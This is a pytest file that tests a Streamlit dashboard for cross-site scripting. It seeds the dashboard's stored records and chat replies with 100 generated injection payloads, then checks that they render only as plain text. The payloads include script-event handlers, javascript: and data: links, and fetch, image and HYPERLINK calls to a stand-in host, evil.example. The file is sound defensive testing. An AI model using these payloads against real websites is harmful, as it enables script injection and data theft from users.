"""What a user, a model or a log wrote is never rendered: proven on the source and on the drawn pages."""

import ast
from pathlib import Path
from typing import Any

import pytest

from app.ledger import Ledger
from app.schemas import Message, Pair, Response
from app.storage import Home
from tests.dashboard import stage
from tests.dashboard.stage import FakeService
from tests.dashboard.test_pages import PAGES, opened

ROOM = Path(__file__).parents[2] / "dashboard"

# Streamlit renders every string of these as plain text: the body of text and code, the cells of a data frame, the
# value inside a field, the entries of a select box.
PLAIN = {"text", "code", "dataframe", "altair_chart"}
PLAIN_PARAMETERS = {
    "text_area": {1, "height", "max_chars"},
    "selectbox": {1, "index", "format_func"},
    "number_input": set(),
    "page_link": {"query_params"},
    "pills": {1},
    # A file to be saved: nothing of it is drawn.
    "download_button": {1, "file_name"},
    "container": set(),
}
NOT_SHOWN = {
    "key", "on_click", "on_change", "args", "kwargs", "disabled", "default", "default_timeout", "run_every",
    "on_select", "height", "column_config", "max_chars", "expanded", "border", "width",
}  # fmt: skip
CONTROL = {
    "fragment", "rerun", "stop", "columns", "cache_data", "cache_resource", "navigation", "empty", "session_state",
    "query_params",
}  # fmt: skip
FORBIDDEN = {"markdown", "write", "write_stream", "latex", "table", "json", "metric", "iframe", "components", "echo"}

MARK = "xss-mark"
PAYLOADS = [
    payload.replace("MARK", f"{MARK}-{number}")
    for number, payload in enumerate(
        [
            template.replace("TAG", tag)
            for template in (
                "<TAG src=x onerror=alert('MARK')>",
                "<TAG onload=fetch('http://evil.example/MARK')></TAG>",
                "![MARK](http://evil.example/TAG.png?MARK)",
                "[MARK](javascript:alert('TAG'))",
                "</p></div><TAG>MARK</TAG>",
                ":red[MARK] :material/TAG: $\\href{javascript:1}{MARK}$",
                "```html\n<TAG>MARK\n```\n# MARK\n| MARK |\n|---|",
                '=HYPERLINK("http://evil.example/TAG","MARK")',
                "\u202eMARK\u2066<TAG>\u200b",
                "<a href='data:text/html;base64,TAG'>MARK</a>{{constructor.constructor('MARK')()}}",
            )
            for tag in ("img", "svg", "script", "iframe", "body", "style", "object", "math", "video", "link")
        ]
    )
]


def streamlit_calls(tree: ast.AST) -> list[tuple[str, ast.Call]]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            owner = node.func.value
            while isinstance(owner, ast.Attribute):
                owner = owner.value
            if isinstance(owner, ast.Name) and owner.id == "st":
                found.append((node.func.attr, node))
    return found


def is_literal(node: ast.expr) -> bool:
    if isinstance(node, ast.List | ast.Tuple):
        return all(is_literal(item) for item in node.elts)
    return isinstance(node, ast.Constant)


@pytest.mark.parametrize("path", sorted(ROOM.glob("*.py")), ids=lambda p: p.name)
def test_only_literals_reach_what_streamlit_renders(path: Path) -> None:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    constants = {
        target.id
        for node in tree.body
        if isinstance(node, ast.Assign) and is_literal(node.value)
        for target in node.targets
        if isinstance(target, ast.Name)
    }
    for name, call in streamlit_calls(tree):
        place = f"{path.name}:{call.lineno} st.{name}"
        assert name not in FORBIDDEN, place
        assert "unsafe_allow_html" not in {k.arg for k in call.keywords}, place
        if name in PLAIN | CONTROL or (isinstance(call.func, ast.Attribute) and "session_state" in ast.dump(call.func)):
            continue
        allowed = PLAIN_PARAMETERS.get(name, set())
        arguments: list[tuple[Any, ast.expr]] = [*enumerate(call.args), *((k.arg, k.value) for k in call.keywords)]
        for where, value in arguments:
            literal = is_literal(value) or (isinstance(value, ast.Name) and value.id in constants)
            assert literal or where in allowed or where in NOT_SHOWN, f"{place}: argument {where} is no literal"


def test_there_are_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 100
    assert all(MARK in payload for payload in PAYLOADS)


def test_no_rendered_element_carries_text_of_the_ledger(home: Home, ledger: Ledger, service: FakeService) -> None:
    pairs = []
    for number, payload in enumerate(PAYLOADS):
        stage.add_response(ledger, number, payload, model_id=payload, subject=payload)
        ledger.record_feedback(
            event_id=f"e{number}", response_id=f"response-{number}", kind="edit", value=payload, comment=payload
        )
        pairs.append(
            Pair(
                prompt=(Message("user", payload),),
                chosen=Response(f"{payload} better", model_id=payload),
                rejected=Response(payload, model_id=payload),
                source="edit",
                split="train",
                cluster=payload,
                event_ids=(payload,),
                subject=payload,
            )
        )
    stage.add_pairs(home, ledger, pairs, dropped=dict.fromkeys(PAYLOADS, 1))
    stage.add_run(
        ledger, "seen-aaaa", steps=3, status="failed", error="\n".join(PAYLOADS), recipe={"name": PAYLOADS[0]}
    )
    row = stage.add_model(ledger, "seen-111111111111", run_id="seen-aaaa", snapshot_id="pairs-1")
    rules = [
        {
            "name": p,
            "passed": False,
            "value": p,
            "comparison": p,
            "threshold": p,
            "low": p,
            "high": p,
            "n": 1,
            "reason": p,
        }
        for p in PAYLOADS
    ]
    with ledger.write() as session:
        session.add(stage.evaluation(row, "HOLD", report={"rules": rules, "judge": PAYLOADS[0], "reasons": PAYLOADS}))
    ledger.set_champion("default", row.model_id, expected_revision=0, actor=PAYLOADS[0], reason=PAYLOADS[1])
    seen = 0
    for page in PAGES:
        query = {"pair": pairs[0].pair_id} if page == "pairs.py" else {}
        seen += assert_plain(opened(page, **query))
    assert seen > 0


def test_no_rendered_element_carries_text_of_the_gateway(service: FakeService) -> None:
    service.replies = ["\n".join(PAYLOADS), "\n".join(reversed(PAYLOADS))]
    service.model_id = PAYLOADS[3]
    tab = opened("chat.py")
    tab.chat_input[0].set_value("\n".join(PAYLOADS)).run()
    seen = assert_plain(tab)
    next(b for b in tab.button if b.label == "Edit").click().run()
    seen += assert_plain(tab)
    next(b for b in tab.button if b.label == "Cancel").click().run()
    next(b for b in tab.button if b.label == "Regenerate and compare").click().run()
    seen += assert_plain(tab)
    service.fail_with = 400
    next(b for b in tab.button if b.label == "Left better").click().run()
    seen += assert_plain(tab)
    assert seen > 4


def assert_plain(tab: Any) -> int:
    """Assert that only plain-text elements hold the mark, and return how many do."""
    plain = {"text", "code", "dataframe", "text_area", "text_input", "chat_input"}
    holders = 0
    for element in tab:
        if getattr(element, "proto", None) is None:
            continue
        if MARK.encode() in element.proto.SerializeToString():
            assert element.type in plain, f"{element.type} carries text that a user wrote: {element.proto}"
            holders += 1
    return holders
